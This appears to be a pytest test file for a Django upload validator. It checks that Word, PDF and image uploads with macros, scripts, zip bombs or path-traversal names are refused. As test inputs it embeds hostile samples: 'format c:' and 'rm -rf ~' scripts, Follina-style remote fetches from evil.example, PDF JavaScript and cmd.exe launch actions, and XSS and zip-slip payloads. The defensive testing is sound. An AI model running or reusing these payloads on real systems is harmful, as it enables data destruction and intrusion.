"""Uploads are judged by their structure, not their first bytes: a Word file is opened as a
package and its parts checked, a PDF must not be a web page or carry scripts, an image must
decode fully and is stored re-encoded without its metadata, and the citizen's file name is
never a storage path."""

import datetime as dt
import io
import zipfile
import zlib

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

from danvan.cases.models import Case, CaseAttachment
from danvan.emulation.models import ProposalDocument
from danvan.exemplars.models import EvidenceFile
from danvan.lib.uploads import DOCX, IMAGES, JPEG, PDF, PNG, WEBP, check_uploads
from tests.upload_samples import CATALOG, docx_bytes, image_bytes, pdf_bytes, rezip

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
CONTENT_TYPES = "[Content_Types].xml"
WORD_MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"


def check(name, data, **kw):
    return check_uploads([SimpleUploadedFile(name, data)], field="files", **kw)


def refusal(name, data, **kw):
    with pytest.raises(ValidationError) as error:
        check(name, data, **kw)
    (message,) = error.value.message_dict["files"]
    assert name.rsplit("/", 1)[-1] in message
    return message


# Word documents -------------------------------------------------------------------------------


def test_a_word_document_saved_by_word_processing_software_is_accepted():
    # One document: two built a second apart differ in their zip timestamps.
    document = docx_bytes()
    (checked,) = check("bao-cao.docx", document)
    assert checked.content_type == DOCX
    assert checked.upload.read() == document


@pytest.mark.parametrize(
    ("member", "content"),
    [
        ("evil.exe", b"MZ\x90\x00\x03" + b"\x00" * 60),
        ("word/media/run.bat", b"@echo off\r\nformat c:\r\n"),
        ("word/script.js", b"new ActiveXObject('WScript.Shell').Run('calc')"),
        ("word/media/image1.png", b"MZ\x90\x00 a program named as a picture"),
        ("word/media/image2.png", b"\x7fELF\x02\x01\x01" + b"\x00" * 40),
        ("word/media/image3.png", b"#!/bin/sh\nrm -rf ~\n"),
    ],
)
def test_a_word_document_carrying_a_program_is_refused(member, content):
    message = refusal("bao-cao.docx", rezip(docx_bytes(), add={member: content}))
    assert "chương trình, macro" in message


def test_a_word_document_with_macros_is_refused():
    message = refusal("to-trinh.docx", rezip(docx_bytes(), add={"word/vbaProject.bin": OLE}))
    assert "chương trình, macro" in message


def test_a_macro_enabled_document_renamed_docx_is_refused():
    package = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        types = z.read(CONTENT_TYPES)
    macro = types.replace(WORD_MAIN, MACRO_MAIN)
    assert "chương trình, macro" in refusal(
        "to-trinh.docx", rezip(package, replace={CONTENT_TYPES: macro})
    )


def test_macros_pass_only_when_the_caller_allows_them():
    package = docx_bytes()
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        types = z.read(CONTENT_TYPES)
    macro = rezip(
        package,
        replace={CONTENT_TYPES: types.replace(WORD_MAIN, MACRO_MAIN)},
        add={"word/vbaProject.bin": OLE},
    )
    (checked,) = check("mau.docx", macro, allow_macros=True)
    assert checked.content_type == DOCX


def test_an_embedded_ole_object_is_refused_but_a_charts_spreadsheet_is_accepted():
    ole = rezip(docx_bytes(), add={"word/embeddings/oleObject1.bin": OLE})
    assert "chương trình, macro" in refusal("bao-cao.docx", ole)

    sheet = io.BytesIO()
    openpyxl.Workbook().save(sheet)
    chart = rezip(
        docx_bytes(), add={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": sheet.getvalue()}
    )
    assert check("bao-cao.docx", chart)
    nested_program = rezip(
        docx_bytes(),
        add={"word/embeddings/sheet.xlsx": rezip(sheet.getvalue(), add={"x.exe": b"MZ" * 40})},
    )
    assert "chương trình, macro" in refusal("bao-cao.docx", nested_program)


def test_a_template_fetched_from_the_internet_is_refused_but_a_hyperlink_is_not():
    def with_relationship(kind, target):
        rels = (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            f'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
        )
        return rezip(docx_bytes(), add={"word/_rels/settings.xml.rels": rels.encode()})

    remote = with_relationship("attachedTemplate", "https://evil.example/t.dotm")
    assert "chương trình, macro" in refusal("bao-cao.docx", remote)
    follina = with_relationship("oleObject", "mhtml:https://evil.example/x.html!x-usc:x")
    assert "chương trình, macro" in refusal("bao-cao.docx", follina)
    assert check("bao-cao.docx", with_relationship("hyperlink", "https://chinhphu.vn/"))
    local = with_relationship("attachedTemplate", "file:///C:\\Users\\A\\Mau-cong-van.dotx")
    assert check("bao-cao.docx", local)


@pytest.mark.parametrize(
    "package",
    [
        pytest.param(lambda: rezip(docx_bytes(), add={"../../evil.xml": b"<x/>"}), id="parent"),
        pytest.param(lambda: rezip(docx_bytes(), add={"/etc/cron.d/x": b"* * * * *"}), id="abs"),
        pytest.param(lambda: rezip(docx_bytes(), add={"word\\..\\..\\x.xml": b"<x/>"}), id="bs"),
        pytest.param(lambda: b"PK\x03\x04" + b"\x00" * 200, id="not-a-zip"),
        pytest.param(lambda: _without(docx_bytes(), CONTENT_TYPES), id="no-content-types"),
        pytest.param(lambda: _without(docx_bytes(), "word/document.xml"), id="no-document"),
        pytest.param(lambda: _zip({"a.txt": b"hello"}), id="plain-zip"),
        pytest.param(lambda: _spreadsheet(), id="xlsx-renamed"),
        pytest.param(lambda: _with_doctype(docx_bytes()), id="dtd"),
    ],
)
def test_a_zip_that_is_not_a_sound_word_package_is_refused(package):
    assert "bị hỏng" in refusal("don.docx", package())


def test_a_zip_bomb_is_refused_without_unpacking_it():
    bomb = rezip(docx_bytes(), add={"word/filler.xml": b"\x00" * (60 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    assert "giải nén" in refusal("don.docx", bomb)


def test_a_highly_compressed_part_is_refused_even_under_the_size_limit():
    squeezed = rezip(docx_bytes(), add={"word/filler.xml": b"\x00" * (5 * 1024 * 1024)})
    assert "giải nén" in refusal("don.docx", squeezed)


def test_a_package_of_too_many_parts_is_refused():
    many = rezip(docx_bytes(), add={f"word/p{i}.xml": b"<p/>" for i in range(1001)})
    assert "giải nén" in refusal("don.docx", many)


def _zip(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buffer.getvalue()


def _without(package, member):
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        return _zip({i.filename: z.read(i) for i in z.infolist() if i.filename != member})


def _spreadsheet():
    buffer = io.BytesIO()
    openpyxl.Workbook().save(buffer)
    return buffer.getvalue()


def _with_doctype(package):
    with zipfile.ZipFile(io.BytesIO(package)) as z:
        types = z.read(CONTENT_TYPES)
    laughs = b'<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
    doctype = types.replace(b"<Types", laughs + b"<Types", 1)
    return rezip(package, replace={CONTENT_TYPES: doctype})


# PDF ------------------------------------------------------------------------------------------


def test_a_plain_pdf_is_accepted():
    (checked,) = check("quyet-dinh.pdf", pdf_bytes())
    assert checked.content_type == PDF


@pytest.mark.parametrize(
    "html",
    [
        b"%<html><body><script>alert(document.cookie)</script></body></html>\n",
        b"%<!DOCTYPE html><IFRAME src=x></IFRAME>\n",
        b"%<svg onload=alert(1)>\n",
        b"%<BODY onload=alert(1)>\n",
    ],
)
def test_a_pdf_that_is_also_a_web_page_is_refused(html):
    polyglot = pdf_bytes().replace(b"%\xe2\xe3\xcf\xd3\n", html, 1)
    assert polyglot.startswith(b"%PDF-")
    assert "bị hỏng" in refusal("don.pdf", polyglot)


@pytest.mark.parametrize(
    ("catalog", "extra"),
    [
        (b"/OpenAction 4 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        (b"/OpenAction 4 0 R", b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"),
        (b"/OpenAction 4 0 R", b"<< /S /Launch /F (cmd.exe) /P (/c calc) >>"),
        (b"/Names 4 0 R", b"<< /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>"),
        (b"", b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"),
        (b"", b"<< /S /URI /URI (javascript:alert(1)) >>"),
    ],
)
def test_a_pdf_with_scripts_launch_actions_or_attached_files_is_refused(catalog, extra):
    pdf = pdf_bytes(CATALOG.replace(b" >>", b" " + catalog + b" >>"), extra=(extra,))
    assert "mã lệnh" in refusal("don.pdf", pdf)


def test_a_script_hidden_in_a_compressed_object_stream_is_found():
    hidden = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        hidden
    )
    pdf = pdf_bytes(extra=(stream + hidden + b"\nendstream",))
    assert "mã lệnh" in refusal("don.pdf", pdf)


def test_the_bytes_of_js_inside_a_pictures_compressed_data_are_not_taken_for_a_script():
    picture = b"\x8f\x02/JS)\x11" * 8
    stream = b"<< /Subtype /Image /Filter /FlateDecode /Length %d >>\nstream\n" % len(picture)
    assert check("don.pdf", pdf_bytes(extra=(stream + picture + b"\nendstream",)))


def test_a_compressed_object_stream_that_cannot_be_read_is_refused():
    stream = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length 64 >>\nstream\n"
    pdf = pdf_bytes(extra=(stream + bytes(range(64)) + b"\nendstream",))
    assert "mã hóa" in refusal("don.pdf", pdf)


def test_a_pdf_without_its_end_of_file_marker_is_refused():
    assert "bị hỏng" in refusal("don.pdf", b"%PDF-1.4 just a header and nothing else")


# Images ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fmt", "kind"),
    [("anh.png", "PNG", PNG), ("anh.jpg", "JPEG", JPEG), ("anh.webp", "WEBP", WEBP)],
)
def test_a_real_image_is_accepted_and_stored_as_the_same_type(name, fmt, kind):
    (checked,) = check(name, image_bytes(fmt), accepted=IMAGES)
    assert checked.content_type == kind
    stored = checked.upload.read()
    assert checked.upload.size == len(stored)
    with Image.open(io.BytesIO(stored)) as image:
        assert (image.format, image.size) == (fmt, (16, 12))


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("anh.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64),
        ("anh.png", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>"),
        ("anh.png", image_bytes("PNG", (64, 64))[:-40]),
        ("anh.jpg", image_bytes("JPEG", (64, 64))[:200]),
        ("anh.jpg", b"\xff\xd8\xff\xe0 not a JPEG at all"),
        ("anh.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 garbage"),
    ],
)
def test_an_image_that_does_not_decode_is_refused(name, data):
    assert "bị hỏng" in refusal(name, data, accepted=IMAGES)


def test_an_image_with_too_many_pixels_is_refused_before_it_is_decoded():
    buffer = io.BytesIO()
    Image.new("1", (8000, 8000)).save(buffer, "PNG")
    assert "megapixel" in refusal("anh.png", buffer.getvalue(), accepted=IMAGES)


def test_a_photos_location_comment_and_trailing_payload_are_not_stored():
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "Dien thoai cua ong A"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (21.0, 1.0, 30.0),
    }
    photo = image_bytes("JPEG", exif=exif.tobytes(), comment=b"nha ong A, so 5 ngo 7")
    payload = b"<html><script>alert(1)</script></html>"
    (checked,) = check("anh.jpg", photo + payload, accepted=IMAGES)
    stored = checked.upload.read()
    assert b"Dien thoai" not in stored and b"nha ong A" not in stored and payload not in stored
    with Image.open(io.BytesIO(stored)) as image:
        kept = image.getexif()
        assert kept.get(ExifTags.Base.Orientation) == 6  # the photo still shows upright
        assert not kept.get_ifd(ExifTags.IFD.GPSInfo)
        assert "comment" not in image.info
    assert len(checked.sha256) == 64


# Names ----------------------------------------------------------------------------------------


def test_the_display_name_loses_folders_and_invisible_characters():
    raw = "C:\\Users\\Dân\\Đơn\u202e khiếu\u200b nại.pdf"
    (checked,) = check(raw, pdf_bytes())
    assert checked.upload.name == "Đơn khiếu nại.pdf"


@pytest.mark.django_db
def test_a_file_named_like_a_path_is_stored_under_a_generated_name(network, settings, tmp_path):
    from danvan.cases.services.attachments import attach, check_files
    from danvan.cases.services.intake import submit
    from tests.cases.conftest import submission

    settings.MEDIA_ROOT = tmp_path
    case = submit(submission=submission(network), client="test", idempotency_key="name").case
    upload = SimpleUploadedFile("../../etc/passwd.png", image_bytes("PNG"))
    (attachment,) = attach(case=case, files=check_files([upload]))
    assert attachment.original_name == "passwd.png"
    assert "passwd" not in attachment.file.name and ".." not in attachment.file.name
    assert attachment.file.name.startswith(f"cases/{case.received_at:%Y/%m}/{case.tracking_code}/")
    assert (tmp_path / attachment.file.name).is_file()


@pytest.mark.parametrize(
    "instance",
    [
        lambda: CaseAttachment(
            case=Case(received_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC), tracking_code="PA-1"),
            sha256="ab" * 32,
        ),
        lambda: EvidenceFile(exemplar_id=7),
        lambda: ProposalDocument(proposal_id=7, sha256="cd" * 32),
    ],
)
def test_no_upload_site_puts_the_file_name_in_the_storage_path(instance):
    made = instance()
    stored = made.file.field.generate_filename(made, "../../etc/passwd.png")
    assert "passwd" not in stored and ".." not in stored and not stored.startswith("/")
